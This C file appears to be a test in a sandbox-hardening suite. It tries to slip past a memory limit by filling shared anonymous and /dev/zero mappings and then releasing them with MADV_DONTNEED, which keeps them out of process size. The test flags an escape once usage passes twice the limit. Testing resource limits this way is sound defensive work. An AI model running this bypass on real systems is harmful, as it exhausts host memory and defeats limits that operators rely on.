/* Shared memory that is filled and put aside: what no page table holds is in no process's size, and stays. */
#include "attack.h"

#define PART (4 << 20)

static long keep(char *part)
{
    if (part == MAP_FAILED)
        return 0;
    memset(part, 1, PART);
    madvise(part, PART, MADV_DONTNEED);
    return 4;
}

int main(void)
{
    long got = 0, limit = number("memory_mib"), enough = 3 * limit;
    int zero = open("/dev/zero", O_RDWR);
    while (got < enough) {
        long more = keep(mmap(0, PART, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
        if (zero >= 0)
            more += keep(mmap(0, PART, PROT_READ | PROT_WRITE, MAP_SHARED, zero, 0));
        if (!more)
            break;
        got += more;
        usleep(1000);
    }
    usleep(50000);
    dprintf(1, "%ld MiB\n", got);
    if (got >= 2 * limit)
        escaped("twice the memory limit");
    return 0;
}
